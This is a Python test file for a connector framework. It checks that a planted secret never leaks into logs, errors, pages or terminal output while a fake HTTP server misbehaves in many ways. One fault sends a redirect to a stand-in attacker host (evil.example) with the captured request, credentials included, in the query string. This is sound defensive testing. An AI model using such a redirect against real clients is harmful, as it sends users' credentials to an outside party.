"""Under whatever fault, no credential stands in a log at its most talkative, in an error, in a page, or on the terminal."""

from __future__ import annotations

import asyncio
import base64
import logging
import traceback
from dataclasses import replace
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from connectors.contract import Credential
from orchestrator.assembly.logs import log_to_stderr
from orchestrator.settings import load_settings
from tests.clock import HANGING
from tests.e2e.raw_server import raw_server
from tests.e2e.test_bad_replies import BAD, JSON, KINDS, LOGIN, shown
from tests.e2e.test_bad_replies import _made as made

if TYPE_CHECKING:
    from collections.abc import Callable

    Answer = Callable[[bytes], bytes]

PLANTED = "planted/Secret+77.zq="
WITHIN = 0.4  # seconds that a source has


def reply(status: str, body: bytes = b"{}", **headers: str) -> bytes:
    head = {"Content-Type": JSON, "Content-Length": str(len(body)), "Connection": "close", **headers}
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in head.items())
    return f"HTTP/1.1 {status}\r\n{lines}\r\n".encode() + body


def told_back(status: str) -> Answer:
    """What we said, headers and all, as an error in JSON, in a page and in the header that errors stand in."""
    return lambda asked: reply(
        status,
        b'{"error": {"message": "'
        + _in_json(asked)
        + b'"}, "errors": ["'
        + _in_json(asked)
        + b'"], "message": "'
        + _in_json(asked)
        + b'"}',
        WWW_Authenticate=f'Bearer error="{_in_json(asked).decode()}"',
    )


def _in_json(asked: bytes) -> bytes:
    return b" ".join(asked.replace(b"\\", b"").replace(b'"', b"'").split())[:3_000]


FAULTS: dict[str, Answer | None] = {
    **{what: lambda _, case=case: reply(case.status, case.body, **case.headers) for what, case in BAD.items()},  # type: ignore[misc]
    **{f"told back with {status}": told_back(status) for status in ("200 OK", "400 Bad", "401 No", "403 No", "404 No", "409 No", "422 No", "429 Later", "500 Broken", "503 Away")},
    "an echo as a page": lambda asked: reply("500 Broken", b"<html>" + asked + LOGIN, Content_Type="text/html"),
    "a redirect that carries it": lambda asked: reply("302 Found", b"", Location=f"https://evil.example/?{quote(asked[:500])}"),
    "a reason that is what we said": lambda asked: reply(f"401 {_in_json(asked).decode()[:500]}"),
    "a header without an end": lambda asked: reply("200 OK", b"{}", X_Said="x" * 100_000),
    "no HTTP": lambda asked: asked,
    "packed, and not": lambda _: reply("200 OK", b"{}", Content_Encoding="gzip"),
    "hung up": lambda _: b"",
    "cut off": lambda asked: reply("200 OK", b"{" + asked, Content_Length="100000"),
    "silent": None,
}  # fmt: skip


TRIED = {"secrets": [(kind, what) for kind in KINDS for what in FAULTS]}


def spelled(secret: str) -> tuple[str, ...]:
    """As it may be read: itself, in an address, and as a header carries it."""
    whole = base64.b64encode(secret.encode()).decode()
    return (
        PLANTED,
        quote(PLANTED, safe=""),
        quote(PLANTED),
        whole,
        whole.rstrip("=")[:-1],
        base64.b64encode(f"{secret}:".encode()).decode()[:-2],
    )


@pytest.mark.parametrize("kind", KINDS)
async def test_no_secret_is_told_whatever_goes_wrong(
    kind: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    monkeypatch.setattr(logging.getLogger(), "level", logging.WARNING)
    log_to_stderr(load_settings({"log": {"level": "DEBUG"}}, {}).log)
    call = shown(kind).call()
    own = call.credential.secret if call.credential else ""
    secret = f"kim@example.com:{PLANTED}" if ":" in own else PLANTED
    for what, fault in FAULTS.items():

        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            asked = await reader.readuntil(b"\r\n\r\n")
            if fault is None:  # noqa: B023
                await reader.read()
                return
            writer.write(fault(asked))  # noqa: B023
            await writer.drain()

        async with raw_server(answer) as url:
            said = await _asked(kind, url, replace(call, credential=Credential(secret), timeout=WITHIN))
        written = "\n".join((said, *capsys.readouterr()))
        found = [line[:300] for line in written.splitlines() if any(each in line for each in spelled(secret))]
        assert not found, (kind, what)


async def _asked(kind: str, url: str, call: Any) -> str:
    """All that is said of a search and of a look at whether the source is well."""
    filed, source = shown(kind), made(kind)
    settings = {"kind": kind, "base_url": url, **filed.exemplar.settings}
    connector = source("mine", source.settings_type.model_validate(settings))
    told = []
    try:
        await connector.prepare()
        for work in (
            lambda: connector.search(filed.native(source.manifest.dialect), call),
            lambda: connector.probe(call),
        ):
            try:
                async with asyncio.timeout(5 * call.timeout):
                    told.append(repr(await work()))
            except Exception as failure:  # noqa: BLE001 - whatever it is, it may not tell
                told += traceback.format_exception(failure)
                told.append(repr(getattr(failure, "message", "")))
    finally:
        await connector.aclose()
    return "\n".join((*told, repr(connector)))


async def test_it_is_seen_where_it_is_told() -> None:
    """That these look where a secret would stand: it goes out with each request, and is told back."""
    heard: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(told_back("401 No")(heard[-1]))
        await writer.drain()

    for kind in ("slack", "jira", "discourse"):
        call = shown(kind).call()
        own = call.credential.secret if call.credential else ""
        secret = f"kim@example.com:{PLANTED}" if ":" in own else PLANTED
        heard.clear()
        async with raw_server(answer) as url:
            await _asked(kind, url, replace(call, credential=Credential(secret), timeout=HANGING))
        assert any(each.encode() in request for request in heard for each in spelled(secret)), kind
